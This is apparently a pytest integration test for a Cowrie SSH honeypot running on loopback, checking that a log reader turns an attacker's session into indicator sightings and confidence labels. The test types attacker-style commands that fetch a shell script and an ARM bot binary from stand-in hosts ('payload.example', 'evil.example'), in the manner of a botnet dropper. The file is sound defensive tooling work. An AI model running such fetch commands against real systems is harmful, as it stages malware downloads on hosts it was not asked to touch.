"""A real Cowrie on loopback writes the log that is read. Its name lookups are answered with 127.0.0.1, so
that nothing leaves this machine."""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

COWRIE = os.environ.get("COWRIE_BIN") or shutil.which("cowrie") or ""
SSH = shutil.which("ssh") or ""
AS_NOBODY: dict[str, Any] = {"user": "nobody", "extra_groups": []} if os.geteuid() == 0 else {}
START = """
import sys
from twisted.internet import defer
import cowrie.core.network
cowrie.core.network.resolve_allowed = lambda address: defer.succeed("127.0.0.1")
from twisted.scripts.twistd import run
sys.argv = ["twistd", "-n", "--pidfile=", "cowrie"]
run()
"""
CONFIG = """
[honeypot]
sensor_name = sensor-1
[ssh]
listen_endpoints = tcp:{port}:interface=127.0.0.1
[output_jsonlog]
enabled = true
logfile = var/log/cowrie/cowrie.json
"""

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not COWRIE, reason="no cowrie in PATH or COWRIE_BIN (pip install cowrie)"),
    pytest.mark.skipif(not SSH, reason="no ssh client"),
]


@pytest.fixture
def home() -> Iterator[Path]:
    """A folder that Cowrie's user may use: it refuses root, and `nobody` sees no folders of pytest's."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder)
        for part in ("etc", "var/log/cowrie", "var/lib/cowrie/downloads", "var/lib/cowrie/tty", "var/run"):
            (path / part).mkdir(parents=True)
        if AS_NOBODY:
            for part in (path, *path.rglob("*")):
                shutil.chown(part, AS_NOBODY["user"])
        yield path


@pytest.fixture
def payload_port() -> Iterator[int]:
    """A web server with a file."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"#!/bin/sh\n")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()


@pytest.fixture
def ssh_port(home: Path) -> Iterator[int]:
    """Cowrie's port."""
    python = str(Path(COWRIE).parent / "python")
    try:
        subprocess.run([python, "-c", "import cowrie"], check=True, capture_output=True, **AS_NOBODY)
    except (OSError, subprocess.CalledProcessError) as error:
        pytest.skip(f"Cowrie does not run as this user: {error}")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    (home / "etc/cowrie.cfg").write_text(CONFIG.format(port=port))
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home)}
    with (home / "out.txt").open("wb") as out:
        cowrie = subprocess.Popen(
            [python, "-c", START], cwd=home, env=env, stdout=out, stderr=out, **AS_NOBODY
        )
    try:
        for _ in range(600):
            assert cowrie.poll() is None, (home / "out.txt").read_text()[-2000:]
            try:
                socket.create_connection(("127.0.0.1", port), 1).close()
                break
            except OSError:
                time.sleep(0.1)
        yield port
    finally:
        cowrie.terminate()
        cowrie.wait(30)


def attack(command: str, port: int, home: Path) -> None:
    answer = home / "answer"
    answer.write_text("#!/bin/sh\necho hunter2\n")
    answer.chmod(0o755)
    options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-p", str(port)]
    env = {**os.environ, "SSH_ASKPASS": str(answer), "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0"}
    subprocess.run([SSH, *options, "root@127.0.0.1", command], env=env, capture_output=True, timeout=60)


def test_what_an_attacker_fetches_is_sighted_and_labelled(read, home, ssh_port, payload_port):
    attack(f"wget http://payload.example:{payload_port}/bins/x.sh", ssh_port, home)
    attack("busybox wget evil.example:1/bot.arm7; ping -c 1 google.com", ssh_port, home)
    time.sleep(1)
    got = read((home / "var/log/cowrie/cowrie.json").read_bytes(), now=datetime.now(UTC))
    assert (got.reader, got.rejects) == ("cowrie", [])
    seen = {(row["indicator"], row["kind"]) for row in got.tables["sightings"]}
    assert seen >= {
        ("127.0.0.1", "connect"),
        ("payload.example", "command"),
        ("payload.example", "download"),
        ("evil.example", "command"),
        ("evil.example", "download_attempt"),
        ("google.com", "command"),
    }
    assert {row["sensor"] for row in got.tables["sightings"]} == {"sensor-1"}
    assert [(row["name"], row["confidence"], row["source"]) for row in got.tables["labels"]] == [
        ("payload.example", 0.5, "sensor-1"),
        ("payload.example", 0.9, "sensor-1"),
        ("evil.example", 0.5, "sensor-1"),
    ]
